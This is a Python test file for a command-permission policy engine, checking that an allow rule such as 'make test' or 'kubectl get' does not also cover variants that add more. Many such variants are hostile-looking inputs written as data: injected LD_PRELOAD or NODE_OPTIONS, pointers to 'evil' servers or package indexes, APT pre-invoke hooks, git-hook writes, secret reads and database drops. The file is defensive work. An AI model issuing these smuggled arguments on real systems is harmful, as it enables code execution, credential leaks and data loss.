"""A rule covers what its words say: not what a later option, variable, target, package or word behind `--` adds."""

from __future__ import annotations

import pytest

from tests.policy.judging import judge, rule
from xun.policy.entries import PolicyError, check_allowed
from xun.policy.rules import Policy

# An entry, with commands that it does not cover (?) and that it does (+).
CASES = r"""
@ make test
? make test 'FOO!=touch pwned'
? make test -- SHELL=./x
? make test LD_PRELOAD=./x.so
? make test PYTHONPATH=.
? make test NODE_OPTIONS=--require=./x
? make test BASH_ENV=x
? make test PATH=.
? make test PYTEST_ADDOPTS=-pevil
? make test PYTEST='sh -c evil'
? make test LINT=rm
? make test deploy
? make test -- deploy
? make test install
? make test -C /tmp/evil
? make test --eva=x
? make test ARGS='-p evil'
+ make test -j4
+ make test -j 4
+ make test V=1
+ make test ARGS=-v TESTS=tests/test_x.py
+ make test ARGS='-k "a or b"'
+ make test VERSION=1.2.3 GOOS=linux CI=1
? make test -C sub
@ make
? make test SHELL=./x
+ make -j4 test
+ make test lint
@ git push
? git push -- origin +main
? git push origin -- :main
? git push --forc
+ git push -u origin feature
+ git push origin HEAD:main
@ mvn test
? mvn test -- exec:java
? mvn test org.codehaus.mojo:exec-maven-plugin:3.0.0:exec -Dexec.executable=touch
? mvn test -Dmaven.ext.class.path=/tmp/evil.jar
? mvn test -Djvm=/tmp/evil
? mvn test -DargLine=-javaagent:x
? mvn test -gs x
? mvn test --global-settings x
? mvn test --fil /tmp/x
? mvn test deploy
+ mvn test -Dtest=Foo -DskipITs -pl core -am -q
+ mvn test -Dspring.profiles.active=test
@ kubectl get
? kubectl get -o yaml -- secrets
? kubectl get Secret
? kubectl get SECRETS -o yaml
? kubectl get pods -s https://evil
? kubectl get pods --server=https://evil
? kubectl get pods --token x
+ kubectl get pods -o yaml -n x
@ npm audit
? npm audit -- fix
? npm audit --fix
+ npm audit --omit=dev
@ gh repo clone
? gh repo clone x -- -c core.fsmonitor=./x
? gh repo clone x -- -u ./x
? gh repo clone x -- --templ=/tmp/evil
+ gh repo clone x -- --depth 1
@ npm test
? npm test --script-s=./x
? npm test -script-shell=./x
? npm test --prefi=./ev
? npm test --node-opt=x
? npm test --userc x
? npm test -- --globalSetup ./x
? npm test -- -r ./x
? npm test -- --reporter ./x.js
+ npm test -- -t name
+ npm test -- --coverage --watch=false
+ npm test -- --reporter=verbose
+ npm test -- -c x
+ npm test -- --testNamePattern foo
@ git rebase
? git rebase --strategy=x/y master
? git rebase --strategy x/y master
? git rebase -s x/y master
? git rebase -sx/y
? git rebase --strat=x/y
+ git rebase -s ours main
+ git rebase -X theirs main
+ git rebase --strategy-option=theirs main
+ git rebase -i main
@ git merge
? git merge -s x/y a
+ git merge -m "some message" a
+ git merge --squash a
+ git merge --no-ff a
@ git cherry-pick
? git cherry-pick --strategy=x/y a
+ git cherry-pick -s abc
@ go env
? go env -w=true GOFLAGS=x
? go env --w GOFLAGS=x
? go env -u X
+ go env GOPATH
@ gh api repos/o/r
? gh api repos/o/r -iXDELETE
? gh api repos/o/r -iX DELETE
? gh api graphql -if query=x
+ gh api repos/o/r --jq .name
@ docker compose down
? docker compose down --volumes=true
? docker compose down -v=true
? docker compose down -tv
+ docker compose down -t 5
@ docker-compose down
? docker-compose down -v
@ tar
? tar cf - -T list
? tar cfT - list
? tar cf - --files-from=list
? tar cf - --files-f list
+ tar xzf a.tgz
@ rsync
? rsync -a --delete d/ .
? rsync --files-from=l a b
+ rsync -a --exclude=x a b
@ uv run pytest
? uv run pytest -p evil
? uv run pytest -c evil.ini
? uv run pytest -o addopts=-pevil
? uv run pytest --basetemp=src
? uv run pytest --rootdir /tmp/x
+ uv run pytest -x -q -k 'a or b' tests
+ uv run pytest -p no:cacheprovider
+ uv run pytest -m slow --maxfail=1 -n 4
@ just test
? just test deploy
? just -f x test
@ gradle test
? gradle test publish
+ gradle test --tests Foo -x lint --info
@ rake test
? rake test -f evil
? rake test RUBYOPT=-r./x
? rake test db:drop
+ rake test TEST=test/a_test.rb
@ bundle exec rake test
? bundle exec rake test db:drop
@ bundle exec rspec
? bundle exec rspec -f ./x
+ bundle exec rspec -f d spec/a_spec.rb
@ bazel test //...
? bazel test //... --run_under=./x
? bazel test //... --shell_executable=x
+ bazel test //... --test_output=errors
@ pre-commit run
? pre-commit run -c evil.yaml
+ pre-commit run --all-files
@ dotnet test
? dotnet test --test-adapter-path /tmp/evil
? dotnet test -p:CustomAfterMicrosoftCommonTargets=x
? dotnet test -p:PostBuildEvent='touch x'
+ dotnet test -c Release --no-build -p:Configuration=Release
+ dotnet test --filter Name~x --logger trx
@ swift test
? swift test --package-path /tmp/evil
+ swift test --filter x
@ ansible-playbook x.yml
? ansible-playbook x.yml --vault-password-file=./x
? ansible-playbook x.yml -i ./evil.py
? ansible-playbook x.yml --ssh-common-args=x
@ jest
? jest -c x.js
? jest --config=x.js
? jest --testEnvironment=./x
? jest --preset=./x
? jest --snapshotSerializers x
? jest --filter=./x
+ jest -t name --runInBand src
@ vitest run
? vitest run --config evil.ts
? vitest run --environment ./x
? vitest run --poolOptions.forks.execArgv=x
+ vitest run --reporter=verbose src
+ vitest run --environment jsdom
@ eslint
? eslint -c evil.js
? eslint --format ./x.js
? eslint -f ./x.js
? eslint --parser ./x.js
? eslint --fix --ext .ts src
+ eslint --ext .ts src
+ eslint -f json src
@ prettier
? prettier --check . --write
? prettier --config ./evil.js
+ prettier --check .
@ python -m mypy
? python -m mypy --python-executable=./x
? python -m mypy --install-types --non-interactive
+ python -m mypy src
@ javac
? javac -J-javaagent:x
? javac -processorpath /tmp/evil
? javac @evil
+ javac -d out A.java
@ gcc
? gcc -Wl,-plugin,./x
+ gcc -Wl,-O1 -lm -o x x.c
@ cmake --build build
? cmake --build build -- SHELL=./x
+ cmake --build build -- -j4
+ cmake --build build -j 4
@ ninja test
? ninja test install
@ git fetch
? git fetch --multiple origin other
? git fetch -f origin a:b
? git fetch origin +refs/heads/*:refs/heads/*
+ git fetch --prune origin
@ pip install -r requirements.txt
? pip install -r requirements.txt evil
? pip install -r requirements.txt --index-url http://evil
@ npm install
? npm install lodash
+ npm install --no-audit
@ npm install lodash
? npm install lodash evil
+ npm install lodash --save-dev
@ git restore --staged
? git restore --staged --worktree .
+ git restore --staged src
@ gcc
? gcc x.c -o README.md
? gcc -oREADME.md x.c
? gcc x.c -MD -MF src/y.c
? gcc x.c -o src
+ gcc x.c -o x
+ gcc x.c -o build/x.o
+ gcc x.c -o src/x
@ go test
? go test -coverprofile=README.md ./...
? go test -o main.go ./...
? go test -cpuprofile README.md
+ go test -coverprofile=cover.out ./...
+ go test -coverprofile cover.out ./...
@ cargo test
? cargo test -- --logfile README.md
+ cargo test -- --logfile test.log
@ cargo build
? cargo build --lockfile-path README.md
@ git archive
? git archive -o README.md HEAD
? git archive --output=src/app.py HEAD
+ git archive -o x.tar HEAD
@ git bundle create
? git bundle create README.md --all
+ git bundle create x.bundle --all
@ git apply
? git apply --build-fake-ancestor=README.md x.patch
@ npm run lint
? npm run lint -- -o README.md
@ mypy
? mypy --junit-xml README.md
? mypy --html-report docs src
+ mypy --junit-xml out/mypy.xml src
+ mypy src tests
@ phpunit
? phpunit --log-junit README.md
? phpunit --coverage-html src
+ phpunit --coverage-html coverage
+ phpunit --coverage-text
@ vitest run
? vitest run --outputFile=README.md
? vitest run --coverage.reportsDirectory=src
? vitest run --attachmentsDir src
+ vitest run --coverage.reportsDirectory=coverage
+ vitest run --coverage src/a.test.ts
@ jest
? jest --coverageDirectory src/api
+ jest --coverage src/a.test.ts
+ jest --cache src
@ npx playwright test
? npx playwright test --output=src
+ npx playwright test --output=test-results
@ mkdocs build
? mkdocs build -d src
+ mkdocs build -d site
@ rsync -a
? rsync -a --log-file=README.md a b
+ rsync -a --log-file=x.log a b
@ docker build
? docker build --iidfile README.md .
? docker build --build-context x=.. .
? docker build --metadata-file package.json .
+ docker build --iidfile id.txt .
@ terraform plan
? terraform plan -out=README.md
? terraform plan -out main.tf
+ terraform plan -out=plan.tfplan
@ uv export
? uv export -o README.md
+ uv export -o requirements.txt
@ pylint
? pylint --output README.md src
+ pylint --output-format json src
@ tar czf
? tar czf README.md src
? tar czf src/app.py src
+ tar czf a.tgz src README.md
@ tar
? tar -czf README.md src
+ tar -czf - README.md
+ tar xzf a.tgz README.md
@ zip
? zip README.md src
+ zip -r a.zip README.md
@ docker compose up
+ docker compose up --build app
@ kubectl get
+ kubectl get -o json pods
@ protoc
+ protoc --python_out=. x.proto
@ tsc --noEmit
? tsc --noEmit --NOEMIT false
? tsc --noEmit --noEmit false
? tsc --noEmit --NoEmit=false
+ tsc --noEmit --strict
@ mise run test
? mise run test ::: deploy
+ mise run test --jobs 2
@ mix ecto.migrate
? mix ecto.migrate + ecto.drop
@ mix do deps.get, test
? mix do deps.get, test, ecto.drop
@ mill foo.test
? mill foo.test + foo.publish
@ ./mill foo.test
? ./mill foo.test + foo.publish
@ xcodebuild test
? xcodebuild test archive
+ xcodebuild test -scheme App -destination platform=macOS
@ grails test-app
? grails test-app war
@ rebar3 eunit
? rebar3 eunit, release
@ pip list
? pip list --python ./x
? pip list --pyth=./x
+ pip list --outdated
@ apt-get -s install
? apt-get -s install x -o APT::Get::Simulate=0
? apt-get -s install x -oAPT::Update::Pre-Invoke::=./x
? apt-get -s install x --option=a=b
+ apt-get -s install -y --no-install-recommends x
@ markdownlint
? markdownlint -f .
+ markdownlint docs
@ npx tsc
? npx tsc --declarationDir src
+ npx tsc --declarationDir dist/types
@ rails db:migrate
? rails db:migrate db:drop
? bundle exec rails db:migrate db:drop
+ rails db:migrate RAILS_ENV=test
@ bundle exec rails db:migrate
? bundle exec rails db:migrate db:seed
@ rails test
+ rails test test/models
@ kubectl apply -f x.yml
? kubectl apply -f x.yml -f y.yml
? kubectl apply -f x.yml -n prod
? kubectl apply -f x.yml --context=prod
+ kubectl apply -f x.yml
@ kubectl get pods
+ kubectl get pods -n prod
@ ansible-playbook x.yml --check
? ansible-playbook x.yml --check y.yml
? ansible-playbook x.yml --check -e a=b
+ ansible-playbook x.yml --check
@ python manage.py test
? python manage.py test --testrunner evil.X
? python manage.py test --settings=config.prod
+ python manage.py test app.tests
@ php artisan migrate
? php artisan migrate --path=x
? php artisan migrate --env=production
@ git stash push
? git stash push --all
? git stash push -a
? git stash push --al
+ git stash push -u
@ git restore
? git restore .
? git restore src/
? git restore '*.py'
+ git restore a.py b.py
+ git restore --staged .
? git restore --staged --worktree .
@ git checkout
? git checkout -- .
? git checkout .
? git checkout -B main
? git checkout main src/x.py
? git checkout -f main
+ git checkout main
+ git checkout -b feature origin/main
@ git reset
? git reset --keep HEAD~9
? git reset --merge
+ git reset HEAD~1
@ service nginx
? service nginx stop
@ flask db
? flask db downgrade
@ vercel
? vercel remove x
@ celery
? celery -A x purge
@ foo
? foo -c 'touch x'
? foo -e x
? foo --eval=x
? foo exec sh
? foo run x
? foo destroy
+ foo --verbose src/x
@ pylint
? pylint --init-hook='any python'
? pylint --load-plugins=evil
+ pylint src --disable=C0114
@ pyright
? pyright --pythonpath ./x
@ phpunit
? phpunit --bootstrap evil.php
? phpunit -d auto_prepend_file=evil
+ phpunit --filter x
@ pandoc
? pandoc x.md -t evil.lua
+ pandoc x.md -t html -o x.html
@ rubocop
? rubocop -f ./x
? rubocop -a
+ rubocop lib
@ sphinx-build
? sphinx-build -c /tmp/evil docs out
+ sphinx-build -b html docs out
@ mkdocs build
? mkdocs build -f evil.yml
@ ant
? ant -f evil.xml
@ tofu apply
? tofu apply -auto-approve
@ uv sync
? uv sync --project /tmp/evil
+ uv sync --all-extras
@ bundle install
? bundle install --gemfile=/tmp/evil/Gemfile
@ systemctl status
? systemctl status x -H root@evil
@ aws s3 ls
? aws s3 ls --endpoint http://evil
@ sbt test
? sbt test publish
? sbt test 'eval x'
@ curl http://x
? curl http://x -w '%output{.git/hooks/x}y'
@ cargo test
+ cargo test -- --nocapture
+ cargo test --release foo
@ go test
? go test -exec ./x
+ go test ./... -run X
@ gh pr create
+ gh pr create --title x --body y
+ gh pr create --fill
@ pytest
+ pytest -k x
@ yarn test
? yarn test --globalSetup ./x
+ yarn test -t name
@ pnpm test
+ pnpm test --filter web
+ pnpm test -- -t x
@ cargo +nightly test
+ cargo +nightly test --release
@ npm run build
+ npm run build -- --watch
@ git commit
+ git commit -am "fix: run exec"
@ golangci-lint run
? golangci-lint run ./... --fix
+ golangci-lint run ./...
@ zip
? zip -r a.zip . -@
+ zip -r a.zip src
"""


def cases(mark: str) -> list[tuple[str, str]]:
    found, entry = [], ""
    for line in CASES.strip().splitlines():
        kind, text = line.split(" ", 1)
        entry = text if kind == "@" else entry
        found += [(entry, text)] if kind == mark else []
    return found


@pytest.mark.parametrize(("entry", "command"), cases("?"))
def test_an_entry_does_not_cover_what_more_a_command_does(entry: str, command: str) -> None:
    assert judge(command, Policy(rules=[rule("allow", "command", entry)])).effect == "ask"


@pytest.mark.parametrize(("entry", "command"), cases("+"))
def test_an_entry_covers_ordinary_use(entry: str, command: str) -> None:
    decision = judge(command, Policy(rules=[rule("allow", "command", entry)]))
    assert decision.effect == "allow", [reason.text for reason in decision.reasons]


@pytest.mark.parametrize(
    ("command", "offered"),
    [
        ('nu -c "ls"', ()), ("R -e x", ()), ("zz -c x", ()), ("zz --eval x", ()), ("zz -n 4 foo", ()), ("zz exec x", ()), ("zz run x", ()),
        ("py-spy record -- ls", ()), ("mpirun -n 2 x", ()), ("nerdctl run x", ()), ("heroku run x", ()), ("cargo +nightly test", ("cargo +nightly test",)),
        ("git restore --staged src", ("git restore --staged",)), ("git checkout -b f", ("git checkout -b",)), ("make clean test", ("make clean test",)),
        ("service nginx status", ("service nginx status",)), ("flask db upgrade", ("flask db upgrade",)), ("npm install lodash", ("npm install lodash",)),
        ("pip install -r requirements.txt", ("pip install -r requirements.txt",)), ("mvn clean install", ("mvn clean install",)),
        ("eslint -c x.js src", ("eslint -c x.js",)), ("golangci-lint run ./...", ("golangci-lint run",)), ("npm test -- -t name", ("npm test",)),
    ],
)  # fmt: skip
def test_always_offers_no_more_than_was_seen(command: str, offered: tuple[str, ...]) -> None:
    assert judge(command).grantable == offered


@pytest.mark.parametrize(
    "entry", ["nu", "xonsh", "R", "dc", "octave", "tclsh8.6", "runcon", "chpst", "zz -c", "zz --eval", "dagger run"]
)
def test_shells_and_runners_that_few_know_are_no_entries(entry: str) -> None:
    with pytest.raises(PolicyError, match="cannot be allowed"):
        check_allowed(entry)


@pytest.mark.parametrize("entry", ["zz", "zz -c conf.yml", "zz run", "gh", "make DESTDIR=/tmp/x install"])
def test_others_are(entry: str) -> None:
    assert check_allowed(entry)
